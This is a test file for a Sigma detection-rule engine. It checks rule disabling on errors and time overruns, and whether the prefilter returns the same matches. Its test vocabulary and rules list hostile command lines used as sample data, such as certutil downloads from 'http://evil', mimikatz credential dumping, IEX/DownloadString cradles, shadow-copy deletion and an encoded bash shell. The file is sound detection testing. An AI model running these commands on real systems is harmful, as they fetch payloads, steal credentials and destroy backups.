import { test } from "node:test";
import assert from "node:assert/strict";
import { existsSync, globSync, readFileSync } from "node:fs";
import { basename, dirname, join, relative, sep } from "node:path";
import type { Event, EventFields, FieldValue, Logsource } from "@ring3/schema";
import { SHARED_DATA_MISSING, sharedDataDir } from "@ring3/testkit";
import { formatDiagnostic, loadRules, Ruleset } from "../src/index.ts";
import type { CompiledRule, Diagnostic, EventView, LoadResult } from "../src/index.ts";
import { event, matchIds, PROCESS_CREATION, ruleText } from "./rule-helpers.ts";

const shared = sharedDataDir();
const SIGMA = shared === undefined ? undefined : join(shared, "sigma");

function compiled(
  entries: readonly [id: string, detection: Record<string, unknown>, logsource?: Logsource][],
): LoadResult {
  const result = loadRules(
    entries.map(([id, detection, logsource]) => ({ path: `${id}.yml`, text: ruleText(detection, id, logsource) })),
  );
  assert.deepEqual(result.diagnostics.map(formatDiagnostic), []);
  return result;
}

function ruleByRef(result: LoadResult, ref: string): CompiledRule {
  const rule = result.rules.find((r) => r.ref === ref);
  assert.ok(rule, ref);
  return rule;
}

/** Two ordinary rules that match `{ Image: …\cmd.exe }` and `{ User: bob }`. */
function goodRules(): LoadResult {
  return compiled([
    ["good-cmd", { selection: { "Image|endswith": "\\cmd.exe" }, condition: "selection" }],
    ["good-bob", { selection: { User: "bob" }, condition: "selection" }],
  ]);
}

/**
 * A rule with a content bug: its compiled detection throws. Hand-made on purpose — the loader never produces
 * such a rule, which is exactly why the ruleset must survive one.
 */
function throwingRule(base: CompiledRule, where: "test" | "explain", calls: { count: number }): CompiledRule {
  return {
    ...base,
    ref: `broken-${where}`,
    rule: { ...base.rule, id: `broken-${where}`, file: `broken-${where}.yml` },
    detection: {
      atoms: undefined,
      test: () => {
        calls.count += 1;
        if (where === "test") throw new Error("content bug in test");
        return true;
      },
      explain: () => {
        throw new TypeError("content bug in explain");
      },
    },
  };
}

test("a rule that throws while matching is disabled with R3_RULE_RUNTIME_ERROR; the others keep matching", () => {
  const result = goodRules();
  const calls = { count: 0 };
  const broken = throwingRule(ruleByRef(result, "good-cmd"), "test", calls);
  const reported: Diagnostic[] = [];
  const ruleset = new Ruleset([broken, ...result.rules], { onRuleDisabled: (d) => reported.push(d) });
  const both = event({ Image: "C:\\Windows\\System32\\cmd.exe", User: "bob" });
  assert.deepEqual(matchIds(ruleset.match(both)), ["good-bob", "good-cmd"]);
  assert.equal(calls.count, 1);
  assert.equal(reported.length, 1);
  const d = reported[0];
  assert.equal(d?.code, "R3_RULE_RUNTIME_ERROR");
  assert.equal(d?.severity, "error");
  assert.equal(d?.rule, "broken-test");
  assert.equal(d?.file, "broken-test.yml");
  assert.match(d?.message ?? "", /content bug in test/);
  assert.deepEqual(ruleset.disabled, reported);
  assert.equal(ruleset.stats().disabled, 1);
  // Disabled means not run again.
  assert.deepEqual(matchIds(ruleset.match(both)), ["good-bob", "good-cmd"]);
  assert.deepEqual(matchIds(ruleset.match(event({ User: "BOB" }))), ["good-bob"]);
  assert.equal(calls.count, 1);
  assert.equal(reported.length, 1);
});

test("a rule that throws while explaining its match is disabled when the explanation is read; nothing throws", () => {
  const result = goodRules();
  const calls = { count: 0 };
  const broken = throwingRule(ruleByRef(result, "good-bob"), "explain", calls);
  const reported: Diagnostic[] = [];
  const ruleset = new Ruleset([...result.rules, broken], { onRuleDisabled: (d) => reported.push(d) });
  const matches = ruleset.match(event({ Image: "C:\\x\\cmd.exe", User: "bob" }));
  // The rule did match: its test holds. Its explanation is only worked out when read.
  assert.deepEqual(matchIds(matches), ["broken-explain", "good-bob", "good-cmd"]);
  assert.equal(reported.length, 0);
  const explained = matches.map((m) => {
    let explanation: unknown;
    assert.doesNotThrow(() => {
      explanation = m.explanation;
    });
    return [m.ruleId, explanation] as const;
  });
  const [, failed] = explained.find(([id]) => id === "broken-explain") ?? [];
  assert.deepEqual(failed, {
    condition: "",
    selections: [],
    error: "rule threw while explaining a match and was disabled: TypeError: content bug in explain",
  });
  assert.equal(explained.find(([id]) => id === "good-bob")?.[1] !== undefined, true);
  assert.deepEqual(
    reported.map((d) => [d.code, d.rule]),
    [["R3_RULE_RUNTIME_ERROR", "broken-explain"]],
  );
  // Read again: the same answer, not a second report.
  assert.equal(matches.find((m) => m.ruleId === "broken-explain")?.explanation, failed);
  assert.equal(reported.length, 1);
  assert.deepEqual(matchIds(ruleset.match(event({ User: "bob" }))), ["good-bob"]);
  assert.equal(calls.count, 1);
});

/** A fake monotonic clock: time passes only when `advance` is called. */
function fakeClock(): { now: () => number; advance: (ms: number) => void } {
  let t = 1_000;
  return { now: () => t, advance: (ms) => (t += ms) };
}

/** A real compiled rule made slow: each run takes `cost()` ms of fake time, however the ruleset runs it. */
function slowed(rule: CompiledRule, clock: ReturnType<typeof fakeClock>, cost: () => number): CompiledRule {
  const slow =
    (run: (view: EventView) => boolean) =>
    (view: EventView): boolean => {
      clock.advance(cost());
      return run(view);
    };
  const { test, afterVetoes } = rule.detection;
  return {
    ...rule,
    detection: {
      ...rule.detection,
      test: slow(test),
      ...(afterVetoes === undefined ? {} : { afterVetoes: slow(afterVetoes) }),
    },
  };
}

test("a rule over its time budget twice in a row is disabled with R3_RULE_TIME_BUDGET; the others keep matching", () => {
  const result = goodRules();
  const clock = fakeClock();
  const slow = slowed(ruleByRef(result, "good-cmd"), clock, () => 5);
  const fast = ruleByRef(result, "good-bob");
  const reported: Diagnostic[] = [];
  const ruleset = new Ruleset([slow, fast], {
    ruleTimeBudgetMs: 1,
    clock: clock.now,
    onRuleDisabled: (d) => reported.push(d),
  });
  const both = event({ Image: "C:\\Windows\\cmd.exe", User: "bob" });
  // First overrun: could be a GC pause, the rule still reports its match.
  assert.deepEqual(matchIds(ruleset.match(both)), ["good-bob", "good-cmd"]);
  assert.equal(reported.length, 0);
  // Second overrun in a row: disabled.
  assert.deepEqual(matchIds(ruleset.match(both)), ["good-bob"]);
  assert.deepEqual(
    reported.map((d) => [d.code, d.rule, d.file]),
    [["R3_RULE_TIME_BUDGET", "good-cmd", "good-cmd.yml"]],
  );
  assert.match(reported[0]?.message ?? "", /budget 1 ms/);
  assert.deepEqual(matchIds(ruleset.match(both)), ["good-bob"]);
  assert.equal(reported.length, 1);
});

test("time budget: overruns that are not consecutive do not disable a rule", () => {
  const result = goodRules();
  const clock = fakeClock();
  let run = 0;
  // Slow, fast, slow, fast…: never two overruns in a row.
  const slow = slowed(ruleByRef(result, "good-cmd"), clock, () => (run++ % 2 === 0 ? 5 : 0));
  const reported: Diagnostic[] = [];
  const ruleset = new Ruleset([slow], {
    ruleTimeBudgetMs: 1,
    clock: clock.now,
    onRuleDisabled: (d) => reported.push(d),
  });
  for (let i = 0; i < 6; i += 1) {
    assert.deepEqual(matchIds(ruleset.match(event({ Image: "C:\\cmd.exe" }))), ["good-cmd"], `event ${i}`);
  }
  assert.deepEqual(reported, []);
  assert.equal(ruleset.stats().disabled, 0);
});

test("time budget: only rules that test values are timed; those that read the prefilter's marks cannot overrun", () => {
  const result = compiled([
    ["marks-only", { selection: { "Image|endswith": "\\cmd.exe" }, condition: "selection" }],
    ["regex", { selection: { "CommandLine|re": "whoami\\s+/all" }, condition: "selection" }],
  ]);
  // Every read of this clock says 5 ms have passed: whatever is timed overruns.
  let t = 0;
  const reported: Diagnostic[] = [];
  const ruleset = new Ruleset(result.rules, {
    ruleTimeBudgetMs: 1,
    clock: () => (t += 5),
    onRuleDisabled: (d) => reported.push(d),
  });
  const both = event({ Image: "C:\\Windows\\cmd.exe", CommandLine: "whoami   /all" });
  assert.deepEqual(matchIds(ruleset.match(both)), ["marks-only", "regex"]);
  assert.deepEqual(matchIds(ruleset.match(both)), ["marks-only"]);
  assert.deepEqual(
    reported.map((d) => [d.code, d.rule]),
    [["R3_RULE_TIME_BUDGET", "regex"]],
  );
  const clockReads = t;
  for (let i = 0; i < 3; i += 1) assert.deepEqual(matchIds(ruleset.match(both)), ["marks-only"]);
  assert.equal(t, clockReads, "a batch of rules that only read marks is not timed");
  assert.equal(reported.length, 1);
});

// --- prefilter equivalence -----------------------------------------------------------------------------------

/** mulberry32: a small seeded PRNG, so a failure can be replayed. */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
}

/** deepEqual with a message built only on failure: the loops below run thousands of times. */
function assertSameMatches(actual: readonly string[], expected: readonly string[], describe: () => string): void {
  if (actual.length !== expected.length || actual.some((id, i) => id !== expected[i])) {
    assert.deepEqual(actual, expected, describe());
  }
}

const REGISTRY_SET: Logsource = { product: "windows", category: "registry_set" };
const REGISTRY_EVENT: Logsource = { product: "windows", category: "registry_event" };

/** Rules over every kind of value test, so the prefilter meets each shape of literal (and of no literal). */
const VARIED_RULES: [string, Record<string, unknown>, Logsource?][] = [
  ["eq", { s: { Image: "C:\\Windows\\System32\\cmd.exe" }, condition: "s" }],
  ["ends", { s: { "Image|endswith": ["\\powershell.exe", "\\pwsh.exe"] }, condition: "s" }],
  ["starts", { s: { "CommandLine|startswith": "rundll32" }, condition: "s" }],
  ["contains-and", { s: { "Image|endswith": "\\cmd.exe", "CommandLine|contains": "/c whoami" }, condition: "s" }],
  ["contains-all", { s: { "CommandLine|contains|all": ["-nop", "-w hidden"] }, condition: "s" }],
  ["glob", { s: { CommandLine: "*certutil*-urlcache*http*" }, condition: "s" }],
  ["qmark", { s: { Image: "*\\psexe?.exe" }, condition: "s" }],
  ["keywords", { k: ["mimikatz", "sekurlsa::"], condition: "k" }],
  ["keywords-all", { k: { "|all": ["invoke-", "downloadstring"] }, condition: "k" }],
  ["cased", { s: { "CommandLine|cased|contains": "FromBase64String" }, condition: "s" }],
  ["not", { s: { "Image|endswith": "\\cmd.exe" }, f: { User: "SYSTEM" }, condition: "s and not f" }],
  ["only-not", { f: { "Image|endswith": "\\explorer.exe" }, condition: "not f" }],
  ["neq", { s: { "User|neq": "SYSTEM", "Image|endswith": "\\whoami.exe" }, condition: "s" }],
  [
    "one-of",
    {
      sel_a: { "CommandLine|contains": "vssadmin" },
      sel_b: { "CommandLine|contains": "wbadmin" },
      condition: "1 of sel_*",
    },
  ],
  [
    "all-of",
    {
      sel_a: { "CommandLine|contains": "delete" },
      sel_b: { "CommandLine|contains": "shadows" },
      condition: "all of sel_*",
    },
  ],
  [
    "two-of",
    {
      s1: { User: "bob" },
      s2: { "Image|endswith": "\\cmd.exe" },
      s3: { "CommandLine|contains": "http" },
      condition: "2 of s*",
    },
  ],
  ["them", { a: { "Image|endswith": "\\mshta.exe" }, _h: { User: "bob" }, condition: "1 of them" }],
  ["list-condition", { a: { "CommandLine|contains": "bitsadmin" }, b: { User: "alice" }, condition: ["a", "b"] }],
  ["list-of-maps", { s: [{ "Image|endswith": "\\wscript.exe" }, { "CommandLine|contains": ".vbs" }], condition: "s" }],
  ["re", { s: { "CommandLine|re": "-[eE]nc [A-Za-z0-9+/=]{8,}" }, condition: "s" }],
  ["re-and-literal", { s: { "Image|endswith": "\\powershell.exe", "CommandLine|re|i": "iex\\s*\\(" }, condition: "s" }],
  ["cidr", { s: { "DestinationIp|cidr": ["10.0.0.0/8", "fe80::/10"] }, condition: "s" }],
  ["numeric", { s: { "Size|gte": 1000, "Image|endswith": "\\cmd.exe" }, condition: "s" }],
  ["hour", { s: { "UtcTime|hour|lt": 6 }, condition: "s" }],
  ["exists", { s: { "ParentImage|exists": false }, condition: "s" }],
  ["null-value", { s: { "Image|endswith": "\\cmd.exe" }, f: { ParentImage: null }, condition: "s and not f" }],
  ["empty", { s: { CommandLine: "" }, condition: "s" }],
  ["fieldref", { s: { "User|fieldref": "TargetUser" }, condition: "s" }],
  ["windash", { s: { "CommandLine|windash|contains": " -urlcache " }, condition: "s" }],
  ["b64offset", { s: { "CommandLine|base64offset|contains": "/bin/bash" }, condition: "s" }],
  ["wide-b64offset", { s: { "CommandLine|wide|base64offset|contains": "IEX" }, condition: "s" }],
  ["field-case", { s: { "commandline|contains": "WHOAMI" }, condition: "s" }],
  ["nested", { s: { "Nested.Inner|contains": "secret" }, condition: "s" }],
  ["array", { s: { Tags: "evil" }, condition: "s" }],
  ["unicode", { s: { "CommandLine|contains": "ÉVIL" }, condition: "s" }],
  ["registry-parent", { s: { "TargetObject|contains": "\\CurrentVersion\\Run" }, condition: "s" }, REGISTRY_EVENT],
  ["registry-set", { s: { "Details|startswith": "DWORD" }, condition: "s" }, REGISTRY_SET],
  // Selections other rules also write: the prefilter shares their atom sets and literal groups.
  ["shared-a", { s: { "Image|endswith": "\\cmd.exe", "CommandLine|contains": "whoami" }, condition: "s" }],
  ["shared-b", { s: { "Image|endswith": "\\cmd.exe", "CommandLine|contains": "delete" }, condition: "s" }],
  [
    "shared-not",
    { s: { "Image|endswith": "\\cmd.exe" }, f: { "CommandLine|contains": "whoami" }, condition: "s and not f" },
  ],
  // A regex whose required literal is control characters (`\n` is a line feed).
  ["re-controls", { s: { "CommandLine|re": "\\n\\n\\t[a-z]+" }, condition: "s" }],
];

const VOCABULARY: Readonly<Record<string, readonly FieldValue[]>> = {
  Image: [
    "C:\\Windows\\System32\\cmd.exe",
    "C:\\WINDOWS\\system32\\CMD.EXE",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "C:\\Program Files\\PowerShell\\7\\pwsh.exe",
    "C:\\Windows\\explorer.exe",
    "C:\\Windows\\System32\\whoami.exe",
    "C:\\Windows\\System32\\mshta.exe",
    "C:\\Windows\\System32\\wscript.exe",
    "C:\\Tools\\psexec.exe",
    "C:\\Tools\\psexesvc.exe",
    "C:\\x\\notcmd.exe",
  ],
  CommandLine: [
    "cmd.exe /c whoami",
    "cmd.exe /C WHOAMI /all",
    "rundll32.exe shell32.dll,Control_RunDLL",
    "RUNDLL32 x",
    "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4A",
    "powershell -NOP -W HIDDEN iex (New-Object Net.WebClient)",
    "powershell [Convert]::FromBase64String($x)",
    "powershell [convert]::frombase64string($x)",
    "certutil.exe -urlcache -split -f http://evil/x.exe",
    "certutil.exe /urlcache /f http://evil/x.exe",
    "certutil \u2013urlcache http://x",
    "vssadmin delete shadows /all",
    "wbadmin delete catalog",
    "bitsadmin /transfer x http://y",
    "wscript evil.vbs",
    "mimikatz.exe sekurlsa::logonpasswords",
    "IEX (Invoke-Expression) DownloadString('http://x')",
    `bash -c "echo ${Buffer.from("xx/bin/bash -i").toString("base64")} | base64 -d"`,
    `powershell -e ${Buffer.from("$x; IEX (iwr http://x)", "utf16le").toString("base64")}`,
    "ÉVIL payload",
    "évil payload",
    "",
    "notepad.exe",
    "cmd.exe /c echo\n\n\tpadded",
    "cmd.exe /c echo\n\n padded",
  ],
  User: ["SYSTEM", "system", "bob", "BOB", "alice", "NT AUTHORITY\\SYSTEM"],
  TargetUser: ["bob", "ALICE", "carol"],
  ParentImage: ["C:\\Windows\\explorer.exe", null, "", "C:\\Windows\\System32\\services.exe"],
  DestinationIp: ["10.1.2.3", "192.168.1.1", "fe80::1", "2001:db8::1", "::ffff:10.0.0.9"],
  Size: [10, 999, 1000, "4096", "big"],
  UtcTime: ["2024-03-15 03:15:00.000", "2024-03-15 13:45:30.123", "2024-03-15T05:59:59Z"],
  Nested: [{ Inner: "the SECRET value" }, { Inner: "nothing" }, { Other: "secret" }],
  Tags: [["good", "EVIL"], ["good"], "evil", []],
  TargetObject: ["HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x", "HKLM\\Software\\Other"],
  Details: ["DWORD (0x00000001)", "dword (0x0)", "Binary Data"],
};

function randomEvent(random: () => number): Event {
  const fields: EventFields = {};
  for (const [name, values] of Object.entries(VOCABULARY)) {
    if (random() < 0.35) continue;
    // Field names arrive in any case; Sigma field lookups are case-insensitive.
    const key = random() < 0.1 ? name.toLowerCase() : name;
    fields[key] = values[Math.floor(random() * values.length)] ?? null;
  }
  const r = random();
  const logsource =
    r < 0.7 ? PROCESS_CREATION : r < 0.85 ? REGISTRY_SET : { product: "windows", category: "registry_add" };
  return event(fields, logsource);
}

test("prefilter: the same matches as prefilter: false over varied rules and events", () => {
  const result = compiled(VARIED_RULES);
  assert.equal(result.rules.length, VARIED_RULES.length);
  const withPrefilter = new Ruleset(result.rules);
  const without = new Ruleset(result.rules, { prefilter: false });
  const random = prng(0x5eed);
  const fired = new Set<string>();
  let total = 0;
  for (let i = 0; i < 4000; i += 1) {
    const e = randomEvent(random);
    const expected = matchIds(without.match(e));
    assertSameMatches(matchIds(withPrefilter.match(e)), expected, () => JSON.stringify(e));
    for (const id of expected) fired.add(id);
    total += expected.length;
  }
  const stats = withPrefilter.stats();
  assert.ok(stats.prefilterStates > 0 && stats.unindexedRules < result.rules.length, "rules are indexed by literals");
  // The comparison means something only if the rules fire: every rule matches some event.
  assert.deepEqual(
    VARIED_RULES.map(([id]) => id).filter((id) => !fired.has(id)),
    [],
    "rules that never fired",
  );
  assert.ok(total > 4000, `only ${total} matches`);
});

test("prefilter: a long stream of values, enough to make the memos start over several times, matches as without it", () => {
  const result = compiled([
    [
      "tool",
      {
        selection: { "CommandLine|contains": ["mimikatz", "sekurlsa::"] },
        filter: { "CommandLine|contains": "legit-admin" },
        condition: "selection and not filter",
      },
    ],
    ["user", { selection: { User: "bob", "Image|endswith": "\\cmd.exe" }, condition: "selection" }],
  ]);
  const withPrefilter = new Ruleset(result.rules);
  const without = new Ruleset(result.rules, { prefilter: false });
  // Each new command line comes twice, so that the memo keeps it: 150,000 of them, some 30 characters each,
  // are several times the memos' 1 Mi characters. The values that repeat throughout (the user, the image, a
  // few command lines) must keep their answers each time the memos and their records start over.
  const repeated = ["cmd /c mimikatz", "cmd /c legit-admin mimikatz", "cmd /c dir"];
  let matched = 0;
  for (let i = 0; i < 450_000; i += 1) {
    const n = Math.floor(i / 3);
    const commandLine =
      i % 3 === 2
        ? (repeated[n % repeated.length] as string)
        : `run-${n} ${n % 2 === 0 ? "sekurlsa::logonpasswords" : "mimikatz"}${n % 5 === 0 ? " legit-admin" : ""}`;
    const e = event({
      Image: i % 4 === 0 ? "C:\\Windows\\System32\\cmd.exe" : "C:\\Tools\\x.exe",
      User: i % 6 === 0 ? "bob" : "alice",
      CommandLine: commandLine,
    });
    const actual = matchIds(withPrefilter.match(e));
    assertSameMatches(actual, matchIds(without.match(e)), () => JSON.stringify(e));
    matched += actual.length;
  }
  assert.ok(matched > 200_000, `only ${matched} matches`);
  const stats = withPrefilter.stats();
  // Each new command line is scanned twice (seen once, then kept): the memo did answer the repeated ones.
  assert.ok(stats.prefilterScans < stats.prefilterLookups / 2, JSON.stringify(stats));
});

/** Every top-level JSON object in a file that may hold several one after another. */
function jsonObjects(text: string): unknown[] {
  const out: unknown[] = [];
  let depth = 0;
  let start = -1;
  let inString = false;
  let escaped = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (inString) {
      if (escaped) escaped = false;
      else if (c === "\\") escaped = true;
      else if (c === '"') inString = false;
    } else if (c === '"') {
      inString = true;
    } else if (c === "{") {
      if (depth === 0) start = i;
      depth += 1;
    } else if (c === "}") {
      depth -= 1;
      if (depth === 0) out.push(JSON.parse(text.slice(start, i + 1)));
    }
  }
  return out;
}

type RegressionRecord = {
  readonly Event?: {
    readonly System?: { readonly EventID?: FieldValue; readonly Channel?: FieldValue };
    readonly EventData?: Readonly<Record<string, FieldValue>> | null;
  };
};

/**
 * The logsource of a regression sample, from the folder of the rule it belongs to
 * (`regression_data/rules/windows/process_creation/<rule>/<id>.json` → category process_creation). `builtin/`
 * and `sysmon/` hold service-based rules, whose folder names the service instead.
 */
function regressionLogsource(root: string, path: string): Logsource {
  const parts = relative(root, path).split(sep);
  const folder = basename(dirname(dirname(path)));
  const windows = parts.indexOf("windows");
  if (parts[windows + 1] === "builtin") return { product: "windows", service: folder };
  if (parts[windows + 1] === "sysmon") return { product: "windows", service: "sysmon" };
  return { product: "windows", category: folder };
}

test(
  "prefilter: the same matches as prefilter: false for every SigmaHQ windows rule over the regression samples",
  { skip: SIGMA === undefined || !existsSync(join(SIGMA, "regression_data")) ? SHARED_DATA_MISSING : false },
  () => {
    const root = SIGMA ?? "";
    const rulePaths = globSync(join(root, "rules", "windows", "**", "*.yml"));
    const result = loadRules(rulePaths.map((path) => ({ path, text: readFileSync(path, "utf8") })));
    assert.deepEqual(result.diagnostics.filter((d) => d.severity === "error").map(formatDiagnostic), []);
    assert.ok(result.rules.length > 2000, `only ${result.rules.length} windows rules`);
    const ruleIds = new Set(result.rules.map((r) => r.ref));
    const withPrefilter = new Ruleset(result.rules);
    const without = new Ruleset(result.rules, { prefilter: false });

    const samples = globSync(join(root, "regression_data", "**", "*.json"));
    assert.ok(samples.length > 100, `only ${samples.length} regression samples`);
    let events = 0;
    let total = 0;
    const ownMissing: string[] = [];
    for (const path of samples) {
      const logsource = regressionLogsource(root, path);
      const ownId = basename(path, ".json");
      let ownMatched = false;
      let hasEventData = false;
      for (const record of jsonObjects(readFileSync(path, "utf8")) as RegressionRecord[]) {
        const data = record.Event?.EventData;
        if (data !== undefined && data !== null) hasEventData = true;
        const system = record.Event?.System;
        const fields: EventFields = {
          ...(data ?? {}),
          EventID: system?.EventID ?? null,
          Channel: system?.Channel ?? null,
        };
        const e = event(fields, logsource);
        const expected = matchIds(without.match(e));
        assertSameMatches(matchIds(withPrefilter.match(e)), expected, () => `${path}: ${JSON.stringify(fields)}`);
        events += 1;
        total += expected.length;
        if (expected.includes(ownId)) ownMatched = true;
      }
      // Each sample was recorded to trigger its rule: when the rule is loaded and the sample's data is in
      // EventData (not UserData), the rule matches at least one of the sample's events.
      if (ruleIds.has(ownId) && hasEventData && !ownMatched) ownMissing.push(relative(root, path));
    }
    assert.ok(events >= samples.length);
    assert.ok(total > 100, `only ${total} matches over ${events} events`);
    assert.deepEqual(ownMissing, [], "regression samples that do not trigger their own rule");
    assert.equal(withPrefilter.stats().disabled, 0);
  },
);
